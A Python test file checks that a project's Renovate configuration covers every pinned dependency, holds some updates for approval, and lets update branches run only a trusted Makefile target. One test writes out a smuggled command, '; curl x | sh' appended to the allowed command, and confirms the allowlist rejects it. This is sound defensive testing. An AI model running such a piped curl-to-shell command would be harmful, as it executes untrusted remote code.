"""Renovate's reading of the repository (tests/renovate/extract.json, written by
``make renovate-check`` from a local-platform extract and Renovate's own rule
engine): every pin is moved by some manager, and the rules group and hold what
renovate.json5 says they do (docs/decisions.md 79)."""

from __future__ import annotations

import json
import re
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kreo_infra.review.renovate import (
    EXEMPT,
    exemption,
    normalize,
    post_upgrade_problems,
    report_deps,
    resolved_config,
    uncovered,
)
from kreo_infra.review.versions import Pin, collect
from tests.conftest import PROJECT_ROOT

EXTRACT = PROJECT_ROOT / "tests" / "renovate" / "extract.json"
UPDATE_TYPES = ("patch", "minor", "major")

FROZEN = {
    "cdktf",
    "cdktf-cli",
    "constructs",
    "jsii",
    "cdktf-cdktf-provider-aws",
    "cdktf-cdktf-provider-kubernetes",
    "cdktf-cdktf-provider-helm",
    "cdktf-cdktf-provider-github",
    "hashicorp/aws",
    "hashicorp/kubernetes",
    "hashicorp/helm",
    "integrations/github",
}
"""The cdktf family: cdktf 0.21.0 is its last release, the bindings are generated for
the pinned providers (docs/decisions.md)."""


@pytest.fixture(scope="module")
def extract() -> dict[str, Any]:
    return json.loads(EXTRACT.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def pins() -> list[Pin]:
    return collect(PROJECT_ROOT)


def _deps(extract: dict[str, Any]) -> list[dict[str, Any]]:
    return extract["deps"]


def _updates(extract: dict[str, Any]) -> Iterator[tuple[dict[str, Any], str, dict[str, Any]]]:
    for dep in _deps(extract):
        for update_type in UPDATE_TYPES:
            yield dep, update_type, dep["rules"][update_type]


def _held(rule: dict[str, Any]) -> bool:
    return bool(rule.get("dependencyDashboardApproval"))


# --- coverage ----------------------------------------------------------------------


def test_every_pin_is_extracted_by_a_manager(extract: dict[str, Any], pins: list[Pin]) -> None:
    """Every pin of config/*.yaml, the Pipfile, the package.json files, the workflows
    and the Makefile is some manager's dependency (make renovate-check also checks
    the versions, against a fresh extract)."""
    assert uncovered(pins, _deps(extract), versions=False) == []


def test_the_extract_has_rules_for_every_dependency(extract: dict[str, Any]) -> None:
    assert _deps(extract)
    for dep in _deps(extract):
        assert set(dep["rules"]) == set(UPDATE_TYPES), dep["depName"]


@pytest.mark.parametrize("key", sorted(EXEMPT))
def test_each_exemption_names_pins_and_says_why(key: str, pins: list[Pin]) -> None:
    exempt = [pin for pin in pins if exemption(pin) == EXEMPT[key]]
    assert exempt, f"EXEMPT[{key!r}] matches no pin: remove it"
    assert len(EXEMPT[key]) > 40


def test_only_the_exempt_pins_are_exempt(pins: list[Pin]) -> None:
    exempt = {pin.locator.split(".")[0] for pin in pins if exemption(pin)}
    assert exempt == {"versions", "cluster", "database", "cache", "search"}
    assert not any(
        exemption(pin) for pin in pins if pin.locator.startswith(("platform.", "application."))
    )


def test_a_pin_no_manager_extracts_is_reported(extract: dict[str, Any], pins: list[Pin]) -> None:
    without_charts = [d for d in _deps(extract) if d["datasource"] != "helm"]
    missing = uncovered(pins, without_charts, versions=False)
    charts = [p for p in pins if p.locator.startswith("platform.charts.")]
    assert charts
    assert len(missing) == len(charts)
    assert all("is not extracted by any Renovate manager" in m for m in missing)


def test_a_pin_extracted_at_another_version_is_reported() -> None:
    pin = Pin("cert-manager (Helm chart)", "cert-manager", "v1.21.1", "", "config/defaults.yaml",
              "platform.charts.cert-manager.version")  # fmt: skip
    dep = {"file": "config/defaults.yaml", "depName": "cert-manager", "currentValue": "v1.20.2"}
    assert uncovered([pin], [dep], versions=False) == []
    assert len(uncovered([pin], [dep])) == 1
    assert uncovered([pin], [{**dep, "currentValue": "v1.21.1"}]) == []


def test_an_action_is_matched_by_its_commit() -> None:
    sha = "3d3c42e5aac5ba805825da76410c181273ba90b1"
    pin = Pin("actions/checkout (GitHub Action)", "actions/checkout", "v7.0.1", sha,
              ".github/workflows/ci.yml", "jobs.test.steps[0].uses")  # fmt: skip
    dep = {"file": pin.file, "depName": "actions/checkout", "currentValue": "v7.0.1"}
    assert uncovered([pin], [{**dep, "currentDigest": sha}]) == []
    assert len(uncovered([pin], [{**dep, "currentValue": "v6", "currentDigest": "0" * 40}])) == 1
    # The comment alone does not cover a pin whose commit Renovate did not read.
    assert len(uncovered([pin], [{**dep, "currentDigest": "0" * 40}])) == 1


def test_the_report_is_read_per_file_and_manager() -> None:
    report = {
        "repositories": {
            "local": {
                "packageFiles": {
                    "npm": [{"packageFile": "package.json", "deps": [{"depName": "a"}]}],
                    "regex": [{"packageFile": "Makefile", "deps": [{"depName": "b"}]}],
                }
            }
        }
    }
    deps = report_deps(report)
    assert [(d["manager"], d["file"], d["depName"]) for d in deps] == [
        ("npm", "package.json", "a"),
        ("regex", "Makefile", "b"),
    ]
    # Committed without versions: a version bump leaves the extract as it is.
    (entry, _) = normalize([{**deps[0], "currentValue": "1"}, {**deps[1], "currentValue": "2"}])
    assert "currentValue" not in entry


# --- rules (Renovate's own engine, tools/renovate/rules.mjs) ---------------------------


def test_the_cdktf_family_never_moves_without_an_approval(extract: dict[str, Any]) -> None:
    seen = set()
    for dep, update_type, rule in _updates(extract):
        if dep["depName"] in FROZEN:
            seen.add(dep["depName"])
            assert _held(rule), (dep["depName"], update_type)
            assert rule["groupName"] == "cdktf family (frozen)", dep["depName"]
    assert seen == FROZEN


def test_a_kubernetes_minor_waits_for_approval_with_cluster_autoscaler(
    extract: dict[str, Any],
) -> None:
    for dep, update_type, rule in _updates(extract):
        if dep["depName"] == "amazon-eks" or (
            dep["depName"] == "cluster-autoscaler" and update_type != "patch"
        ):
            assert _held(rule), (dep["depName"], update_type)
            assert rule["groupName"] == "kubernetes minor"
    (eks,) = [d for d in _deps(extract) if d["depName"] == "amazon-eks"]
    assert eks["datasource"] == "endoflife-date"


def test_no_group_mixes_held_and_open_updates(extract: dict[str, Any]) -> None:
    """A held member would otherwise hold the whole group's branch, or an open one
    carry the held update with it."""
    held: dict[tuple[str, str], set[bool]] = defaultdict(set)
    for _, update_type, rule in _updates(extract):
        if rule["enabled"] and "groupName" in rule:
            held[(rule["groupName"], update_type)].add(_held(rule))
    assert held
    assert {group: states for group, states in held.items() if len(states) > 1} == {}


def test_a_week_opens_a_handful_of_branches(extract: dict[str, Any]) -> None:
    """At most prConcurrentLimit branches when every open dependency has a minor or
    patch update: the groups, plus the few that stand alone."""
    branches = set()
    for dep, update_type, rule in _updates(extract):
        if update_type != "major" and rule["enabled"] and not _held(rule):
            branches.add(rule.get("groupName") or dep["depName"])
    assert 0 < len(branches) <= extract["settings"]["prConcurrentLimit"] <= 10, sorted(branches)


def test_weekly_reviewed_and_aged(extract: dict[str, Any]) -> None:
    settings = extract["settings"]
    # The workflow's weekly cron decides when; a Renovate schedule would make a
    # delayed or dispatched run do nothing.
    assert settings["schedule"] == ["at any time"]
    assert settings["timezone"] == "UTC"
    assert settings["minimumReleaseAge"] == "3 days"
    assert settings["automerge"] is False
    assert not any(rule.get("automerge") for _, _, rule in _updates(extract))


def test_every_chart_bump_points_at_the_review_report(extract: dict[str, Any]) -> None:
    charts = [d for d in _deps(extract) if d["datasource"] == "helm"]
    assert {d["depName"] for d in charts} >= {"cert-manager", "kube-prometheus-stack"}
    for dep in charts:
        assert all(dep["rules"][t]["prBodyNotes"] for t in UPDATE_TYPES), dep["depName"]
        assert dep["rules"]["minor"]["groupName"] in {"platform charts", "kubernetes minor"}


def test_the_marketplace_images_are_not_renovate_s(extract: dict[str, Any]) -> None:
    """A service release is a pull request changing application.image_tag."""
    ecr = [d for d in _deps(extract) if re.search(r"\.dkr\.ecr\.", d["depName"] or "")]
    assert ecr
    for dep in ecr:
        assert not any(dep["rules"][t]["enabled"] for t in UPDATE_TYPES)


def test_the_database_client_stays_on_the_engine_major(
    extract: dict[str, Any], configs: list[Any]
) -> None:
    images = [d for d in _deps(extract) if d["depName"].endswith("/postgres")]
    assert {d["file"] for d in images} >= {"config/defaults.yaml"}
    for config in configs:
        major = int(config.database.engine_version.split(".")[0])
        assert config.application.database_client_image.split(":")[1].startswith(f"{major}.")
        for dep in images:
            assert dep["rules"]["major"]["allowedVersions"] == f"<{major + 1}", config.name


def test_the_setup_actions_own_version_inputs_are_left_to_the_env_managers(
    extract: dict[str, Any],
) -> None:
    """setup-python/-node/-terraform read ${{ env.*_VERSION }}: the regex managers
    move those, the github-actions manager's reading of the input is disabled."""
    inputs = [d for d in _deps(extract) if d["depType"] == "uses-with"]
    assert inputs
    assert not any(d["rules"][t]["enabled"] for d in inputs for t in UPDATE_TYPES)
    for name in ("hashicorp/terraform", "node", "python"):
        assert any(d["manager"] == "regex" and d["depName"] == name for d in _deps(extract))


def test_pipenv_looks_packages_up_on_the_default_index() -> None:
    """The Pipfile's source is ${PIP_INDEX_URL}, which Renovate reads literally: every
    lookup fails ("no-result") unless registryUrls is reset (checked with Renovate
    44.121.2 --dry-run=lookup)."""
    text = (PROJECT_ROOT / "renovate.json5").read_text(encoding="utf-8")
    rule = re.search(r"matchManagers: \['pipenv'\],\s*registryUrls: \[\],", text)
    assert rule is not None
    assert 'url = "${PIP_INDEX_URL}"' in (PROJECT_ROOT / "Pipfile").read_text(encoding="utf-8")


# --- what a Renovate branch may run ---------------------------------------------------


def test_a_branch_runs_only_main_s_artifacts_target(extract: dict[str, Any]) -> None:
    """The only command: main's Makefile (the global configuration names it by main's
    checkout, a stand-in here), never the branch's; Renovate's own lock-file updates,
    which would run the package managers in the branch, are off."""
    tasks = extract["global"]["postUpgradeTasks"]
    command = "make -f /kreo-trusted-root/Makefile renovate-artifacts"
    assert tasks["commands"] == [command]
    assert tasks["executionMode"] == "branch"
    assert extract["settings"]["postUpgradeTasks"]["commands"] == []  # none from the repository
    assert extract["settings"]["skipArtifactsUpdate"] is True
    (allowed,) = extract["global"]["allowedCommands"]
    assert re.search(allowed, command)
    for other in ("make renovate-artifacts", f"{command}; curl x | sh", f"{command} X=1"):
        assert not re.search(allowed, other), other
    assert extract["global"]["binarySource"] == "global"


def _recipe(target: str) -> str:
    text = (PROJECT_ROOT / "Makefile").read_text(encoding="utf-8")
    found = re.search(rf"^{target}:.*\n((?:\t.*\n|.*\\\n)+)", text, flags=re.MULTILINE)
    assert found is not None, target
    return found.group(1)


def test_the_artifacts_target_runs_no_dependency_code() -> None:
    """Re-locking only: wheels (no sdist builds), npm without scripts, main's trusted
    Python; nothing installed from the branch."""
    recipe = _recipe("renovate-artifacts")
    assert "PIP_ONLY_BINARY=:all:" in recipe
    assert "$(lock_npm)" in recipe
    assert "$(TRUSTED_PIPENV)" in recipe
    assert "PYTHONPATH=$(KREO_ROOT)/constructs $(TRUSTED_PYTHON)" in recipe
    for forbidden in (
        "npm ci",
        "pipenv sync",
        "pip install",
        "$(VENV_BIN)/",
        "PYTHONPATH=constructs",
    ):
        assert forbidden not in recipe, forbidden
    makefile = (PROJECT_ROOT / "Makefile").read_text(encoding="utf-8")
    # KREO_ROOT is the Makefile's own directory (main's checkout under `make -f`).
    assert (
        "KREO_ROOT := $(patsubst %/,%,$(dir $(abspath $(lastword $(MAKEFILE_LIST)))))" in makefile
    )
    assert "TRUSTED_PYTHON = $(KREO_ROOT)/" in makefile
    makefile = (PROJECT_ROOT / "Makefile").read_text(encoding="utf-8")
    lock_npm = makefile.split("define lock_npm", 1)[1].split("endef", 1)[0]
    assert "--ignore-scripts" in lock_npm
    assert "--omit-lockfile-registry-resolved" in lock_npm
    # No prerequisites: nothing of the branch is installed first.
    assert re.search(r"^renovate-artifacts:\s*##", makefile, flags=re.MULTILINE)


def test_renovate_is_installed_without_scripts_and_apart_from_synth() -> None:
    stamp = _recipe(r"\$\(RENOVATE_STAMP\)")
    assert "npm ci --ignore-scripts" in stamp
    for target in ("install", "synth", "test"):
        assert "RENOVATE" not in re.search(
            rf"^{target}:(.*)$", (PROJECT_ROOT / "Makefile").read_text(), flags=re.MULTILINE
        ).group(1)


def test_the_committed_extract_is_what_the_check_writes(extract: dict[str, Any]) -> None:
    assert extract["generated_by"] == "make renovate-check"
    keys = [(d["file"], d["manager"], str(d["depName"]), str(d["datasource"]), str(d["depType"]))
            for d in _deps(extract)]  # fmt: skip
    assert len(keys) == len(set(keys))
    assert EXTRACT.read_text(encoding="utf-8").endswith("\n")
    assert "currentValue" not in EXTRACT.read_text(encoding="utf-8")


def test_node_builds_wait_for_a_checked_approval(extract: dict[str, Any]) -> None:
    """node-linux-* are a third party's repackaging: every update held until someone has
    compared the binary with nodejs.org's signed SHASUMS256 (docs/operations.md)."""
    builds = [d for d in _deps(extract) if d["depName"].startswith("node-linux-")]
    assert {d["file"] for d in builds} == {"package.json", "tools/renovate/package.json"}
    for dep in builds:
        assert all(_held(dep["rules"][t]) for t in UPDATE_TYPES), dep["file"]


def test_the_resolved_config_must_carry_main_s_post_upgrade_task(tmp_path: Path) -> None:
    """make renovate-check reads Renovate's own --print-config of the run with the global
    configuration: the task must reach the repository's resolved config (a preset or a
    merge-order change in Renovate that dropped or replaced it fails the check)."""
    command = f"make -f {tmp_path.resolve() / 'Makefile'} renovate-artifacts"
    good = {"postUpgradeTasks": {"commands": [command], "executionMode": "branch"}}
    log = "\n".join(
        [
            "not json",
            json.dumps({"msg": "something else", "config": {}}),
            json.dumps({"msg": "Full resolved config and hostRules including presets",
                        "config": good}),
        ]
    )  # fmt: skip
    assert resolved_config(log) == good
    assert post_upgrade_problems(good, tmp_path) == []
    assert post_upgrade_problems(None, tmp_path)
    empty = {"postUpgradeTasks": {"commands": [], "executionMode": "update"}}
    assert len(post_upgrade_problems(empty, tmp_path)) == 2
    branch = {"postUpgradeTasks": {"commands": ["make renovate-artifacts"],
                                   "executionMode": "branch"}}  # fmt: skip
    (problem,) = post_upgrade_problems(branch, tmp_path)
    assert "tools/renovate/config.cjs" in problem
